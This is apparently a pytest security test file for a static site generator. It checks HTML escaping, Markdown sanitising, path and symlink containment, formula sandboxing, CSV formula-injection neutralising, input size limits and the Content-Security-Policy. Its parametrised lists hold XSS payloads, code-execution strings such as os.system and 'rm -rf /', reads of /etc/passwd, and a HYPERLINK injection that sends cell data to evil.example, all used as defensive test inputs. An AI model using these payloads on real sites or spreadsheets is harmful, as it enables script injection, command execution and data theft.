"""The threat list of docs/security.md, one test (or a few) per entry.

T1 markup in user strings, T2 hostile URLs in Markdown, T3 raw HTML in Markdown, T4 paths out
of the project, T5 formulas that try to run code, T6 spreadsheet formula injection in kpis.csv,
T7 huge and deeply nested inputs, T8 the Content-Security-Policy on every page.
"""

from __future__ import annotations

import builtins
import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup

from sitegen.config.limits import Limits
from sitegen.config.project import load_project
from sitegen.config.toml import read_toml
from sitegen.errors import ConfigError, DataError, FormulaError, SitegenError
from sitegen.model import formula
from sitegen.pipeline.run import build_project
from sitegen.readers import read_file, sniff
from sitegen.theme.markdown import markdown_to_html, sanitize_html

HEADER = "date,impressions,reach,likes,comments,shares,clicks,leads,spend,followers"
ROWS = [
    "2025-01-01,1000,500,40,4,2,20,2,100,1000",
    "2025-01-02,2000,800,60,6,3,30,3,150,1010",
    "2025-02-01,1500,700,50,5,2,25,5,200,1030",
    "2025-02-02,2500,900,70,7,3,35,5,200,1050",
]
CSV = "\n".join([HEADER, *ROWS]) + "\n"

# Hostile strings: each would run script, load something or break out of its context if it
# reached a page unescaped. T1 puts every one of them into every user string.
HOSTILE = [
    "{{ 7*7 }}{% raw %}",
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<style>body{display:none}</style>",
    "]]><!--<x>-->&amp;&lt;",
]
MARKER = "ZQX"  # unlikely in a page: a hostile string that survives shows up as text with it


def kpis_metrics() -> dict[str, str]:
    from sitegen.model.catalogue import builtin

    return dict(builtin().metric_kinds)


def write_project(root: Path, toml: str, data: dict[str, str] | None = None) -> Path:
    (root / "data").mkdir(parents=True, exist_ok=True)
    (root / "sitegen.toml").write_text(toml, encoding="utf-8")
    for name, text in (data if data is not None else {"instagram.csv": CSV}).items():
        (root / "data" / name).write_text(text, encoding="utf-8")
    return root


def toml_str(text: str) -> str:
    """Return text as a TOML basic string."""
    return json.dumps(text, ensure_ascii=False)


def html_pages(site: Path) -> Iterator[tuple[Path, BeautifulSoup, str]]:
    for page in sorted(site.rglob("*.html")):
        raw = page.read_text(encoding="utf-8")
        yield page, BeautifulSoup(raw, "html.parser"), raw


def assert_no_active_content(site: Path) -> int:
    """Check every page: scripts only from the site's static/, no handlers, no js: URLs."""
    pages = 0
    for page, soup, raw in html_pages(site):
        pages += 1
        where = page.relative_to(site).as_posix()
        for script in soup.find_all("script"):
            src = script.get("src")
            if src is not None:
                assert re.fullmatch(r"(\.\./)*static/[a-z-]+\.js", src), (where, src)
                assert not script.string, where
            else:
                # Data blocks only, and the data must still parse: a "</script>" in a user
                # string that broke out of it would leave broken JSON and a live element.
                assert script.get("type") == "application/json", (where, str(script)[:200])
                json.loads(script.string or "")
        for tag in soup.find_all(True):
            for attr, value in tag.attrs.items():
                assert not attr.lower().startswith("on"), (where, tag.name, attr)
                text = " ".join(value) if isinstance(value, list) else str(value)
                if text == "data:," and tag.name == "link":
                    continue  # the empty favicon: stops the browser asking for /favicon.ico
                if attr in ("href", "src", "action", "formaction", "xlink:href"):
                    assert not re.match(r"\s*(javascript|data|vbscript):", text, re.I), (
                        where,
                        tag.name,
                        text,
                    )
        for bad in ("iframe", "object", "embed", "form", "base", "style"):
            assert soup.find(bad) is None, (where, bad)
        assert soup.find("svg", onload=True) is None
        # Jinja never evaluates data: "{{ 7*7 }}" stays as text, never becomes 49.
        assert f"{MARKER}49" not in raw, where
    return pages


# ------------------------------------------------------------------------------------------
# T1: markup in every user string that reaches a page
# ------------------------------------------------------------------------------------------


def hostile_project(root: Path, payload: str) -> Path:
    p = MARKER + payload
    toml = (
        f'[project]\nname = {toml_str(p)}\nslug = "hostile"\n'
        "[period]\nstart = 2025-01-01\nend = 2025-02-28\n"
        "[data.columns]\n"
        f'{toml_str("Clicks " + p)} = "clicks"\n'
        '[[kpis]]\nid = "cost_per_share"\n'
        f"label = {toml_str(p)}\ndefinition = {toml_str(p)}\n"
        'formula = "spend / shares"\nunit = "currency"\nbetter = "lower"\n'
    )
    channel_csv = (
        f"date,channel,competitor,impressions,{json.dumps('Clicks ' + p)},"
        f"{json.dumps('unknown ' + p)}\n"
        f"2025-01-01,{json.dumps(p)},,100,5,{json.dumps(p)}\n"
        f"2025-01-02,{json.dumps(p)},,120,6,x\n"
        f"2025-01-01,{json.dumps(p)},{json.dumps(p + 'rival')},90,4,y\n"
        f"2025-01-02,{json.dumps(p)},{json.dumps(p + 'rival')},95,3,z\n"
    )
    root = write_project(root, toml, {"instagram.csv": CSV, "other.csv": channel_csv})
    (root / "goals.toml").write_text(
        "[[goals]]\n"
        f'id = "g1"\ntitle = {toml_str(p)}\ndescription = {toml_str(p)}\n'
        'kpi = "leads"\ntarget = 30\nstart = 2025-01-01\ndeadline = 2025-03-31\n'
        "[[plans]]\n"
        f"title = {toml_str(p)}\nrevenue_target = 1000\naverage_order = 100\n"
        "lead_to_customer = 0.5\nbudget = 500\n",
        encoding="utf-8",
    )
    (root / "cases.toml").write_text(
        "[[cases]]\n"
        f'id = "c1"\ntitle = {toml_str(p)}\n'
        'period = { start = 2025-02-01, end = 2025-02-28 }\nkpis = ["clicks"]\n'
        "[[references]]\n"
        f'name = {toml_str(p)}\ngoal = {toml_str(p)}\nkpi = "clicks"\nchange = "+30%"\n'
        f"months = 1\nsource = {toml_str(p)}\n",
        encoding="utf-8",
    )
    pages = root / "pages"
    pages.mkdir()
    # A page body refuses template syntax outright ({{ 7*7 }} stops the build, see
    # test_shortcodes.py); the rest of the payload goes in as it is, the title all of it.
    b = p.replace("{{", "{ {").replace("{%", "{ %")
    (pages / "about.md").write_text(
        f"---\ntitle: {p}\norder: 1\n---\n# {b}\n\n{b}\n\n[{b}]({b})\n\n| {b} |\n|---|\n| {b} |\n",
        encoding="utf-8",
    )
    return root


def test_t1_markup_in_user_strings_is_escaped(tmp_path: Path) -> None:
    # One build with every hostile string in every user string keeps this fast.
    payload = "".join(HOSTILE)
    root = hostile_project(tmp_path / "proj", payload)
    out = tmp_path / "site"
    build_project(root, out)
    pages = assert_no_active_content(out)
    assert pages >= 8
    # The strings reached the pages (as text): the project name on every page, the goal,
    # channel, competitor, custom KPI and Markdown page somewhere.
    texts = {p.relative_to(out).as_posix(): soup.get_text(" ") for p, soup, _ in html_pages(out)}
    shown = MARKER + payload
    for where, text in texts.items():
        assert shown in text or MARKER in text, where
    assert sum(text.count(MARKER) for text in texts.values()) > 2 * pages
    doc = json.loads((out / "data" / "kpis.json").read_text(encoding="utf-8"))
    assert doc["project"]["name"] == shown


# ------------------------------------------------------------------------------------------
# T2, T3: hostile URLs and raw HTML in Markdown (nh3 allowlist)
# ------------------------------------------------------------------------------------------

HOSTILE_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[link][x]",
    "<javascript:alert(1)>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.example><input name=p></form>",
    "<style>@import url(https://evil.example/x.css)</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)>x</details>",
    '<p id="x" class="y" onclick="alert(1)">x</p>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<scr<script>ipt>alert(1)</script>",
    "<a href='http://ok.example' target=_blank>ok</a>",
]


def check_clean_html(html: str) -> None:
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name in {
            "a",
            "abbr",
            "b",
            "blockquote",
            "br",
            "code",
            "dd",
            "del",
            "details",
            "div",
            "dl",
            "dt",
            "em",
            "figcaption",
            "figure",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "i",
            "img",
            "ins",
            "kbd",
            "li",
            "mark",
            "ol",
            "p",
            "pre",
            "q",
            "s",
            "small",
            "span",
            "strong",
            "sub",
            "summary",
            "sup",
            "table",
            "tbody",
            "td",
            "tfoot",
            "th",
            "thead",
            "tr",
            "u",
            "ul",
        }, tag.name
        for attr, value in tag.attrs.items():
            assert attr in {
                "href",
                "title",
                "src",
                "alt",
                "width",
                "height",
                "align",
                "colspan",
                "rowspan",
                "id",
                "rel",
            }, (tag.name, attr)
            if attr in ("href", "src"):
                assert re.match(r"(https?:|mailto:|[^:]*$)", str(value), re.I), value


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN, ids=range(len(HOSTILE_MARKDOWN)))
def test_t2_t3_markdown_is_sanitised(text: str) -> None:
    html = markdown_to_html(f"Before\n\n{text}\n\nAfter")
    check_clean_html(html)
    if "<math" not in text:  # an unclosed foreign element may swallow the rest, harmlessly
        assert "After" in html
    # Sanitising twice changes nothing: the output is already inside the allowlist.
    assert sanitize_html(html) == html


def test_t2_safe_links_survive() -> None:
    html = markdown_to_html(
        "[site](https://example.com/a?b=1) [mail](mailto:a@example.com) [rel](../kpis/ctr.html)"
        "\n\n![logo](../assets/logo.svg)"
    )
    soup = BeautifulSoup(html, "html.parser")
    assert [a["href"] for a in soup.find_all("a")] == [
        "https://example.com/a?b=1",
        "mailto:a@example.com",
        "../kpis/ctr.html",
    ]
    assert soup.find("img")["src"] == "../assets/logo.svg"
    for a in soup.find_all("a"):
        assert "noopener" in a["rel"]


def test_t2_t3_hostile_markdown_page_in_a_built_site(tmp_path: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    (root / "pages").mkdir()
    (root / "pages" / "notes.md").write_text("\n\n".join(HOSTILE_MARKDOWN), encoding="utf-8")
    out = tmp_path / "site"
    build_project(root, out)
    assert_no_active_content(out)
    page = (out / "pages" / "notes.html").read_text(encoding="utf-8")
    assert "ok.example" in page


# ------------------------------------------------------------------------------------------
# T4: paths in the config, symlinks and absolute paths out of the project
# ------------------------------------------------------------------------------------------


def expect_error(root: Path, key: str | None, file: str | None = None) -> SitegenError:
    with pytest.raises(SitegenError) as info:
        build_project(root, root.parent / "site")
    err = info.value
    errors = getattr(err, "errors", [err])
    assert any(
        (key is None or e.key == key) and (file is None or (e.file or "").startswith(file))
        for e in errors
    ), str(err)
    assert not (root.parent / "site").exists()
    return err


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A secret file and folder beside the project, which must never reach the site."""
    secret = tmp_path / "secret"
    (secret / "templates").mkdir(parents=True)
    (secret / "secret.svg").write_text("<svg>SECRET</svg>", encoding="utf-8")
    (secret / "templates" / "base.html").write_text("SECRET", encoding="utf-8")
    return secret


@pytest.mark.parametrize(
    "value",
    [
        "../secret/secret.svg",
        "assets/../../secret/secret.svg",
        "/etc/passwd",
        "\\\\server\\share\\x.svg",
        "C:\\Windows\\win.ini",
        "C:/Windows/win.ini",
    ],
)
def test_t4_logo_outside_the_project_is_refused(tmp_path: Path, outside: Path, value: str) -> None:
    root = write_project(tmp_path / "proj", f'[project]\nname = "Acme"\nlogo = {toml_str(value)}\n')
    expect_error(root, "project.logo", "sitegen.toml")


def test_t4_logo_symlink_out_is_refused(tmp_path: Path, outside: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\nlogo = "assets/l.svg"\n')
    (root / "assets").mkdir()
    (root / "assets" / "l.svg").symlink_to(outside / "secret.svg")
    expect_error(root, "project.logo", "sitegen.toml")


@pytest.mark.parametrize("value", ["../secret", "/etc", "themes/../../secret", "C:\\themes"])
def test_t4_theme_outside_the_project_is_refused(tmp_path: Path, outside: Path, value: str) -> None:
    root = write_project(
        tmp_path / "proj", f'[project]\nname = "Acme"\ntheme = {toml_str(value)}\n'
    )
    expect_error(root, "project.theme", "sitegen.toml")


def test_t4_theme_symlink_out_is_refused(tmp_path: Path, outside: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\ntheme = "mytheme"\n')
    (root / "mytheme").symlink_to(outside)
    expect_error(root, "project.theme", "sitegen.toml")


def test_t4_file_in_a_local_theme_linking_out_is_refused(tmp_path: Path, outside: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\ntheme = "mytheme"\n')
    (root / "mytheme" / "templates").mkdir(parents=True)
    (root / "mytheme" / "static").mkdir()
    (root / "mytheme" / "static" / "leak.css").symlink_to(outside / "secret.svg")
    expect_error(root, "project.theme", "sitegen.toml")


def test_t4_templates_folder_linking_out_is_refused(tmp_path: Path, outside: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    (root / "templates").symlink_to(outside / "templates")
    expect_error(root, None, "templates")


def test_t4_template_file_linking_out_is_refused(tmp_path: Path, outside: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    (root / "templates").mkdir()
    (root / "templates" / "base.html").symlink_to(outside / "templates" / "base.html")
    expect_error(root, None, "templates/base.html")


def test_t4_template_include_cannot_climb_out(tmp_path: Path, outside: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    (root / "templates").mkdir()
    (root / "templates" / "markdown.html").write_text(
        '{% extends "base.html" %}{% block content %}'
        '{% include "../../secret/templates/base.html" %}{% endblock %}',
        encoding="utf-8",
    )
    (root / "pages").mkdir()
    (root / "pages" / "a.md").write_text("# A\n", encoding="utf-8")
    with pytest.raises(SitegenError):
        build_project(root, tmp_path / "site")
    assert not (tmp_path / "site").exists()


def test_t4_asset_symlink_out_is_refused(tmp_path: Path, outside: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    (root / "assets").mkdir()
    (root / "assets" / "x.svg").symlink_to(outside / "secret.svg")
    expect_error(root, None, "assets/x.svg")


def test_t4_asset_folder_symlink_out_is_refused(tmp_path: Path, outside: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    (root / "assets").symlink_to(outside)
    with pytest.raises(SitegenError):
        build_project(root, tmp_path / "site")
    assert not (tmp_path / "site").exists()


def test_t4_page_symlink_out_is_refused(tmp_path: Path, outside: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    (root / "pages").mkdir()
    (outside / "leak.md").write_text("SECRET", encoding="utf-8")
    (root / "pages" / "leak.md").symlink_to(outside / "leak.md")
    expect_error(root, None, "pages/leak.md")


def test_t4_data_file_symlink_out_is_refused(tmp_path: Path, outside: Path) -> None:
    """Another client's export linked into data/ would publish their numbers."""
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    (outside / "other-client.csv").write_text(CSV, encoding="utf-8")
    (root / "data" / "facebook.csv").symlink_to(outside / "other-client.csv")
    expect_error(root, None, "data/facebook.csv")


def test_t4_data_folder_symlink_out_is_refused(tmp_path: Path, outside: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n', {})
    (root / "data").rmdir()
    (outside / "data").mkdir()
    (outside / "data" / "instagram.csv").write_text(CSV, encoding="utf-8")
    (root / "data").symlink_to(outside / "data")
    expect_error(root, None, "data")


def test_t4_links_inside_the_project_are_fine(tmp_path: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\nlogo = "assets/l.svg"\n')
    (root / "assets").mkdir()
    (root / "shared.svg").write_text("<svg/>", encoding="utf-8")
    (root / "assets" / "l.svg").symlink_to(root / "shared.svg")
    build_project(root, tmp_path / "site")
    assert (tmp_path / "site" / "assets" / "l.svg").read_text(encoding="utf-8") == "<svg/>"


# ------------------------------------------------------------------------------------------
# T5: formulas that try to run code
# ------------------------------------------------------------------------------------------

CODE_FORMULAS = [
    "__import__('os').system('touch /tmp/pwned')",
    "open('/etc/passwd').read()",
    "eval('1+1')",
    "exec('import os')",
    "spend.__class__.__mro__",
    "spend; import os",
    "lambda: 1",
    "[c for c in ().__class__.__base__.__subclasses__()]",
    "`id`",
    "$(id)",
    "spend if clicks else leads",
    "spend ** 99999999",
    "getattr(spend, 'x')",
    "start(__import__)",
    "clicks @ spend",
    "clicks // 2",
    "{{ 7*7 }}",
    "1" * 2000,
    "(" * 500 + "1" + ")" * 500,
    "-" * 500 + "1",
    "9" * 400,
    "1e999",
    "spend\x00",
    "spend / shares\n; rm -rf /",
]


@pytest.fixture
def no_eval(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make eval, exec and compile fail loudly: no formula may reach them."""

    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("eval/exec/compile called")

    for name in ("eval", "exec", "compile"):
        monkeypatch.setattr(builtins, name, refuse)


@pytest.mark.parametrize("text", CODE_FORMULAS, ids=range(len(CODE_FORMULAS)))
def test_t5_code_in_formulas_is_a_formula_error(no_eval: None, text: str) -> None:
    try:
        parsed = formula.parse(text, where="kpis[0].formula")
    except FormulaError as exc:
        assert exc.key == "kpis[0].formula"
        assert str(exc)
        return
    # What parses is names and arithmetic only; an unknown name is refused before any use.
    with pytest.raises(FormulaError):
        parsed.check_names({"spend", "clicks", "leads", "shares"})


def test_t5_code_in_a_custom_kpi_formula_stops_the_build(tmp_path: Path) -> None:
    root = write_project(
        tmp_path / "proj",
        '[project]\nname = "Acme"\n[[kpis]]\nid = "x"\nlabel = "X"\n'
        "formula = \"__import__('os').system('touch pwned')\"\n",
    )
    with pytest.raises(FormulaError) as info:
        build_project(root, tmp_path / "site")
    assert info.value.key is not None and "kpis[0]" in info.value.key
    assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()
    assert not (tmp_path / "site").exists()


def test_t5_evaluation_never_raises(no_eval: None) -> None:
    f = formula.parse("spend / (clicks - clicks) + 1e300 * 1e300 - -spend")
    values = {"spend": 1.0, "clicks": 3.0}
    assert f.evaluate(values.get, values.get) is None


# ------------------------------------------------------------------------------------------
# T6: spreadsheet formula injection in the CSV the site offers
# ------------------------------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_t6_kpis_csv_neutralises_formulas(tmp_path: Path) -> None:
    kpis = "".join(
        f'[[kpis]]\nid = "k{i}"\nlabel = {toml_str(s)}\nformula = "spend / shares"\n'
        for i, s in enumerate(INJECTIONS)
    )
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["date", "channel", "impressions", "clicks"])
    for s in INJECTIONS[:4]:
        for d in (1, 2):
            w.writerow([f"2025-01-0{d}", s, 10, 1])
    root = write_project(
        tmp_path / "proj",
        '[project]\nname = "=1+1"\n' + kpis,
        {"instagram.csv": CSV, "more.csv": buf.getvalue()},
    )
    out = tmp_path / "site"
    build_project(root, out)
    text = (out / "data" / "kpis.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert header[-1] == "value"
    seen_labels = {r[1] for r in body}
    seen_channels = {r[4] for r in body}
    # A bare CR would end the row in a spreadsheet and start the next with a live formula.
    assert "\r" not in text
    for s in INJECTIONS:
        shown = s.replace("\r", "\n")
        assert ("'" + shown if shown[0] in "=+-@\t" else shown) in seen_labels, s
    assert len(seen_channels) > 2
    for r in body:
        for cell in r[:-1]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), r
        # The value column is a plain number (a negative one starts with '-').
        assert r[-1] == "" or re.fullmatch(r"-?\d+(\.\d+)?(e[-+]?\d+)?|-?inf|nan", r[-1]), r


# ------------------------------------------------------------------------------------------
# T7: huge and deeply nested inputs, refused or handled within bounded memory
# ------------------------------------------------------------------------------------------


def read(path: Path, limits: Limits | None = None) -> Any:
    return read_file(path, metric_kinds=kpis_metrics(), display=f"data/{path.name}", limits=limits)


def test_t7_a_file_over_2_gb_is_refused_without_reading_it(tmp_path: Path) -> None:
    big = tmp_path / "data" / "big.csv"
    big.parent.mkdir()
    with big.open("wb") as fh:  # sparse: takes no disk space
        fh.truncate(sniff.MAX_FILE_BYTES + 1)
    with pytest.raises(DataError) as info:
        read(big)
    assert info.value.file == "data/big.csv"
    assert "too big" in info.value.message


def test_t7_size_limit_applies_to_every_format(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    for name in ("a.csv", "a.tsv", "a.txt", "a.json", "a.xlsx", "a.parquet"):
        f = tmp_path / "data" / name
        f.write_bytes(b"x" * 101)
        with pytest.raises(DataError, match="too big"):
            read(f, Limits(max_file_bytes=100))


def _build_peak_kb(root: Path, site: Path) -> tuple[subprocess.CompletedProcess[str], int]:
    """Run the whole CLI on root; return the process and its peak resident memory in KB."""
    code = (
        "import resource, sys\n"
        "from sitegen.cli import main\n"
        "try:\n    main()\n"
        "finally:\n"
        "    print('MAXRSS', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code, "build", str(root), "-o", str(site)],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "NO_COLOR": "1", "COLUMNS": "200"},
    )
    rss_kb = int(re.search(r"MAXRSS (\d+)", proc.stderr).group(1))  # type: ignore[union-attr]
    return proc, rss_kb


def test_t7_a_huge_file_build_stays_in_bounded_memory(tmp_path: Path) -> None:
    """The whole CLI, on a sparse 2 GB + 1 byte file: exit 1, a message, little memory.

    The bound is relative: the same CLI refusing a 2-byte file is the baseline (imports,
    the chart engine, whatever the installed packages weigh on this machine), and the huge
    file may add at most 64 MB to it, 3 % of the file, where reading it would add gigabytes.
    """
    small = write_project(tmp_path / "small", '[project]\nname = "Acme"\n')
    (small / "data" / "facebook.csv").write_bytes(b"\x00\x01")
    base_proc, base_kb = _build_peak_kb(small, tmp_path / "site-small")
    assert base_proc.returncode == 1, base_proc.stderr

    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    with (root / "data" / "facebook.csv").open("wb") as fh:
        fh.truncate(sniff.MAX_FILE_BYTES + 1)
    proc, rss_kb = _build_peak_kb(root, tmp_path / "site")
    assert proc.returncode == 1, proc.stderr
    assert "data/facebook.csv" in proc.stderr and "too big" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert rss_kb - base_kb < 64 * 1024, (rss_kb, base_kb)


def test_t7_a_million_columns(tmp_path: Path) -> None:
    f = tmp_path / "data" / "wide.csv"
    f.parent.mkdir()
    header = "date," + ",".join(f"c{i}" for i in range(1_000_000))
    f.write_text(header + "\n2025-01-01" + ",1" * 1_000_000 + "\n", encoding="utf-8")
    with pytest.raises(DataError) as info:
        read(f)
    assert info.value.file == "data/wide.csv"


def test_t7_a_10_mb_line(tmp_path: Path) -> None:
    f = tmp_path / "data" / "long.csv"
    f.parent.mkdir()
    f.write_text(
        HEADER + "\n" + ROWS[0] + "," + "9" * (sniff.MAX_LINE_BYTES + 10) + "\n" + ROWS[1] + "\n",
        encoding="utf-8",
    )
    with pytest.raises(DataError) as info:
        read(f)
    assert info.value.file == "data/long.csv"
    assert info.value.line == 2


def test_t7_a_10_mb_cell_in_a_quoted_field(tmp_path: Path) -> None:
    f = tmp_path / "data" / "long.csv"
    f.parent.mkdir()
    f.write_text(
        HEADER + ",note\n" + ROWS[0] + ',"' + "x\n" * (sniff.MAX_LINE_BYTES // 2 + 10) + '"\n',
        encoding="utf-8",
    )
    try:
        read(f)
    except DataError as exc:
        assert exc.file == "data/long.csv"


@pytest.mark.parametrize("depth", [1000, 100_000])
def test_t7_deeply_nested_json(tmp_path: Path, depth: int) -> None:
    f = tmp_path / "data" / "deep.json"
    f.parent.mkdir()
    f.write_text("[" * depth + "]" * depth, encoding="utf-8")
    with pytest.raises(DataError) as info:
        read(f)
    assert info.value.file == "data/deep.json"


@pytest.mark.parametrize(
    "text",
    [
        "x = " + "[" * 100_000 + "]" * 100_000,
        "x = " + "{a = " * 50_000 + "1" + "}" * 50_000,
        '[project]\nname = "' + "a" * (6 * 1024 * 1024) + '"\n',
        "[" + "a." * 5_000 + "b]\n",
    ],
    ids=["deep-array", "deep-inline-table", "huge", "deep-table-name"],
)
def test_t7_deep_or_huge_toml(tmp_path: Path, text: str) -> None:
    f = tmp_path / "sitegen.toml"
    f.write_text(text, encoding="utf-8")
    with pytest.raises(SitegenError) as info:
        doc = read_toml(f, "sitegen.toml")
        (tmp_path / "data").mkdir()
        load_project(tmp_path)
        raise AssertionError(f"accepted: {list(doc)}")
    errors = getattr(info.value, "errors", [info.value])
    assert all(e.file == "sitegen.toml" for e in errors)


def test_t7_sparse_huge_toml_is_refused_without_reading(tmp_path: Path) -> None:
    f = tmp_path / "goals.toml"
    with f.open("wb") as fh:
        fh.truncate(3 * 1024**3)
    with pytest.raises(ConfigError, match="too large"):
        read_toml(f, "goals.toml")


@pytest.mark.parametrize(
    "text",
    [
        "> " * 5000 + "deep",
        "- " * 5000 + "deep",
        "*" * 50_000 + "x" + "*" * 50_000,
        # Python-Markdown is quadratic on nested brackets (~6 minutes for this 80 kB page):
        # render.py refuses deep nesting before Markdown sees it.
        "[" * 20_000 + "x" + "](y)" * 20_000,
        "<div>" * 20_000,
        "| a " * 5000 + "|\n" + "|---" * 5000 + "|\n",
    ],
    ids=["quotes", "lists", "emphasis", "links", "divs", "wide-table"],
)
def test_t7_deep_markdown_page(tmp_path: Path, text: str) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    (root / "pages").mkdir()
    (root / "pages" / "deep.md").write_text(text, encoding="utf-8")
    try:
        build_project(root, tmp_path / "site")
    except SitegenError as exc:
        assert exc.file is not None and "pages/deep.md" in exc.file
    else:
        assert_no_active_content(tmp_path / "site")


def test_t7_markdown_page_not_utf8_is_an_error(tmp_path: Path) -> None:
    root = write_project(tmp_path / "proj", '[project]\nname = "Acme"\n')
    (root / "pages").mkdir()
    (root / "pages" / "bad.md").write_bytes(b"# Caf\xe9\n\xff\xfe")
    with pytest.raises(SitegenError) as info:
        build_project(root, tmp_path / "site")
    assert info.value.file is not None and "pages/bad.md" in info.value.file


# ------------------------------------------------------------------------------------------
# T8: the Content-Security-Policy on every page
# ------------------------------------------------------------------------------------------


def csp_of(soup: BeautifulSoup) -> dict[str, list[str]]:
    metas = soup.find_all(
        "meta", attrs={"http-equiv": re.compile("^content-security-policy$", re.I)}
    )
    assert len(metas) == 1
    meta = metas[0]
    # A <meta> CSP only governs what comes after it: it must come first in <head>.
    head = soup.find("head")
    assert meta.parent is head
    before = [t for t in meta.find_all_previous(["script", "link", "style", "img"])]
    assert before == []
    policy: dict[str, list[str]] = {}
    for part in meta["content"].split(";"):
        words = part.split()
        if words:
            policy[words[0].lower()] = words[1:]
    return policy


def check_policy(policy: dict[str, list[str]], where: str) -> None:
    assert policy.get("default-src") == ["'none'"], where
    assert policy.get("base-uri") == ["'none'"], where
    assert policy.get("form-action") == ["'none'"], where
    # Only the site's own files: no host, no scheme wildcard, no inline script.
    for directive, sources in policy.items():
        for src in sources:
            assert src in {"'self'", "'none'", "'unsafe-eval'", "'unsafe-inline'", "data:"}, (
                where,
                directive,
                src,
            )
    assert "'unsafe-inline'" not in policy.get("script-src", []), where
    assert "data:" not in policy.get("script-src", []), where
    # 'unsafe-eval' only where Vega needs it (script-src), data: only for images.
    for directive, sources in policy.items():
        if "'unsafe-eval'" in sources:
            assert directive == "script-src", where
        if "data:" in sources:
            assert directive == "img-src", where


def test_t8_csp_on_every_page_of_a_built_site(tmp_path: Path) -> None:
    root = hostile_project(tmp_path / "proj", "<b>x</b>")
    out = tmp_path / "site"
    build_project(root, out)
    pages = 0
    for page, soup, _ in html_pages(out):
        pages += 1
        where = page.relative_to(out).as_posix()
        check_policy(csp_of(soup), where)
        # Every script the page runs is the site's own file (the CSP would block others).
        for script in soup.find_all("script", src=True):
            target = (page.parent / script["src"]).resolve()
            assert target.is_relative_to(out.resolve()) and target.is_file(), where
        for link in soup.find_all("link", href=True):
            assert not re.match(r"^[a-z]+:|^//", link["href"]), (where, link["href"])
    assert pages >= 8


def test_t8_csp_on_the_portfolio_index(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from sitegen.cli import app

    for name in ("a", "b"):
        write_project(tmp_path / "clients" / name, f'[project]\nname = "{name.upper()}"\n')
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["build", str(tmp_path / "clients"), "-o", str(out)])
    assert result.exit_code == 0, result.output
    index = out / "index.html"
    assert index.is_file()
    soup = BeautifulSoup(index.read_text(encoding="utf-8"), "html.parser")
    check_policy(csp_of(soup), "index.html")
